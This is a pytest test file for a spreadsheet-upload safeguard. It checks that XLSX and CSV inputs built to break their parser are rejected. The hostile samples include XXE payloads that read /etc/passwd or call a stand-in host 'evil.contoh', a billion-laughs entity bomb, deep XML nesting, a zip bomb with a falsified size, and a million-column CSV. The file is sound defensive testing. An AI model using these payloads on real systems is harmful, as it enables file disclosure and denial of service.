"""Tables made to break their reader: entities, depth, bombs, a million columns; each is refused in words."""

import io
import time
import zipfile

import openpyxl
import pytest

from safeguards.spreadsheets import SafeCSV, SafeXLSX, UnreadableFile

pytestmark = pytest.mark.once

BROKEN = "Berkas ini rusak atau bukan XLSX. Simpan ulang sebagai XLSX."
SHEET = "xl/worksheets/sheet1.xml"


def workbook() -> bytes:
    book, buffer = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Nama"])
    book.active.append(["Contoh"])
    book.save(buffer)
    return buffer.getvalue()


def changed(name: str, change) -> bytes:
    """The workbook with one part rewritten."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            new.writestr(part, change(old.read(part)) if part == name else old.read(part))
    return out.getvalue()


def declared(text: str):
    """``text`` between the XML's declaration and its first element."""
    return lambda xml: b'<?xml version="1.0"?>' + text.encode() + xml.partition(b"?>")[2].lstrip()


def refusal(content, form=SafeXLSX) -> str:
    began = time.monotonic()
    with pytest.raises(UnreadableFile) as error:
        form().create_dataset(content)
    assert time.monotonic() - began < 20
    return str(error.value)


def test_what_is_broken_below_is_good_before():
    assert list(SafeXLSX().create_dataset(changed(SHEET, lambda xml: xml))) == [("Contoh",)]


LAUGHS = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
DOCTYPES = {
    "a file of the host": '<!DOCTYPE worksheet [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "another host": '<!DOCTYPE worksheet SYSTEM "http://evil.contoh/x.dtd">',
    "a billion laughs": f'<!DOCTYPE worksheet [<!ENTITY a0 "ha">{LAUGHS}]>',
    "a parameter": '<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://evil.contoh/x"> %p;]>',
    "nothing at all": "<!DOCTYPE worksheet>",
}


@pytest.mark.parametrize("name", DOCTYPES)
@pytest.mark.parametrize(
    "part", [SHEET, "xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"]
)
def test_no_entity_is_ever_read(name, part):
    assert refusal(changed(part, declared(DOCTYPES[name]))) == BROKEN


def test_an_entity_in_another_encoding_is_no_way_round():
    text = DOCTYPES["a file of the host"]
    utf16 = f'<?xml version="1.0" encoding="UTF-16"?>{text}<worksheet>&a;</worksheet>'.encode("utf-16")
    assert refusal(changed(SHEET, lambda xml: utf16)) == BROKEN


@pytest.mark.parametrize("depth", [61, 200_000])
def test_depth_is_refused_before_it_is_built(depth):
    assert refusal(changed(SHEET, lambda xml: b"<a>" * depth + b"</a>" * depth)) == BROKEN


def test_a_size_that_lies_is_found_out():
    """The table of contents says one byte; the part unpacks to thirty megabytes."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/media/a.xml", b"\0" * 30 * 1024 * 1024)
        next(part for part in book.infolist() if part.filename.endswith("a.xml")).file_size = 1
    assert refusal(out.getvalue()) == BROKEN


def test_a_million_columns_are_refused():
    words = "Terlalu banyak kolom. Hapus kolom yang tidak dipakai."
    assert refusal("a," * 1_000_000, SafeCSV) == words
    assert refusal((";" * 1_000_000 + "a\n").encode(), SafeCSV) != ""
    assert refusal("a;" * 101, SafeCSV) == words
    assert len(SafeCSV().create_dataset("a;" * 100 + "\nb").headers) == 100


@pytest.mark.parametrize(
    "content", [workbook(), b"%PDF-1.7\n%\xe2\xe3\xcf\xd3", b"\x89PNG\r\n", b"<html>\x00\xff</html>"]
)
def test_what_only_calls_itself_csv_is_refused(content):
    assert "Simpan ulang sebagai XLSX" in refusal(content, SafeCSV)


@pytest.mark.parametrize("content", [b"nama;umur\na;1", b"%PDF-1.7", b"<html>", b"PK\x03\x04"])
def test_what_only_calls_itself_xlsx_is_refused(content):
    assert refusal(content) == BROKEN
